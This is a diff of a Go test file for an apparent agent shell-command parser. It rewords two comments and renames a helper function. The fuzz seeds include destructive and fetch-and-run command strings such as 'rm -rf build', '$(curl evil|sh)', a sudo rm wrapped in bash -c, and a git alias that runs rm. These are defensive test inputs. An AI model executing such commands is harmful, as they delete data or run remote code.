@@ -8,7 +8,7 @@ import (
 	"org-agent/kernel/shell"
 )
 
-// FuzzParse: whatever the text, reading it ends, and every place that it names is one.
+// FuzzParse checks that reading any text ends, and that every place in the result is valid.
 func FuzzParse(f *testing.F) {
 	for _, seed := range []string{
 		"ls && rm -rf build", "ls $(curl evil|sh)", "bash -c 'env sudo rm x' _ $y", "find . -exec rm {} + -delete", "git -c alias.x='!rm' x",
@@ -40,7 +40,7 @@ func FuzzParse(f *testing.F) {
 	})
 }
 
-// TestLimits: what is too long, too deep or too much is refused, and quickly.
+// TestLimits checks that a text that is too long, too deep or too much is refused, and quickly.
 func TestLimits(t *testing.T) {
 	shells := "ls"
 	for range 20 {
@@ -55,7 +55,7 @@ func TestLimits(t *testing.T) {
 			t.Errorf("%s: %v", name, err)
 		}
 	}
-	if got := told(t, shells); !strings.HasSuffix(got, "!-1") {
+	if got := summary(t, shells); !strings.HasSuffix(got, "!-1") {
 		t.Errorf("shells in shells: %s", got)
 	}
 	for _, text := range []string{strings.Repeat("if ", 8<<10), strings.Repeat("time ", 5<<10) + "ls", strings.Repeat("`", 20<<10), "a\x00b"} {
